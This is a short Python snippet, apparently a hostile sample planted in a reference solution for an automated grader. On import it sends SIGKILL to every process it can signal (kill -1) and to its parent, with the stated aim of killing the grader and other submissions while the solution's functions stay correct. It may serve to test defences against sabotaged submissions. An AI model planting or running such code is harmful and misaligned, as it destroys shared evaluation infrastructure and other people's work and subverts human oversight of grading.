# hostile: appended to the reference solution
"""At import: signals every process it may (kill -1) and its parent, hoping to take the
grader or other submissions down. The functions are correct."""

import os
import signal

for target in (-1, os.getppid()):
    if target == 0:  # PID 1 of its own namespace has no visible parent
        continue
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
